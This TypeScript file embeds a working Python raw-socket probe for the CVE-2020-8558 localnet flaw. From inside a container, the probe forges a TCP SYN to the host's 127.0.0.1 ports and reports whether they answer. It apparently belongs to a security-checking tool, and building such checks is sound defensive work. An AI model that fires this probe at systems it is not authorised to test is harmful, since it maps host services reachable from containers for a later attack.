/**
 * A probe for the localnet attack (CVE-2020-8558 class), run with python3 inside a container's
 * network namespace: one TCP SYN to 127.0.0.1:PORT sent out of eth0 to the gateway's MAC, as a
 * process with CAP_NET_RAW can. Prints OPEN if a SYN-ACK comes back within 2 s, else CLOSED.
 * Arguments: PORT and the bridge's MAC address.
 */
export const LOCALNET_PROBE = String.raw`# Sends one TCP SYN to 127.0.0.1:PORT out of eth0 to the gateway's MAC (what a container with
# CAP_NET_RAW can do) and prints OPEN if a SYN-ACK comes back, CLOSED otherwise.
import socket, struct, sys, time, random
port, gw_mac = int(sys.argv[1]), bytes.fromhex(sys.argv[2].replace(':', ''))
iface = 'eth0'
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind((iface, 0))
my_mac = s.getsockname()[4]
import fcntl
ip = socket.inet_aton(socket.inet_ntoa(fcntl.ioctl(socket.socket(), 0x8915, struct.pack('256s', iface.encode()))[20:24]))
dst = socket.inet_aton('127.0.0.1')
def csum(b):
    if len(b) % 2: b += b'\0'
    t = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
sport = random.randint(40000, 60000)
tcp = struct.pack('!HHIIBBHHH', sport, port, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
tcp = tcp[:16] + struct.pack('!H', csum(ip + dst + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)) + tcp[18:]
iph = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, ip, dst)
iph = iph[:10] + struct.pack('!H', csum(iph)) + iph[12:]
s.send(gw_mac + my_mac + b'\x08\x00' + iph + tcp)
s.settimeout(0.2)
end = time.time() + 2
while time.time() < end:
    try:
        f = s.recv(2048)
    except socket.timeout:
        continue
    if f[12:14] != b'\x08\x00' or f[23] != 6: continue
    ihl = (f[14] & 0xf) * 4
    t = f[14 + ihl:]
    sp, dp = struct.unpack('!HH', t[:4])
    if sp == port and dp == sport and (t[13] & 0x12) == 0x12:
        print('OPEN'); sys.exit(0)
print('CLOSED')
`;
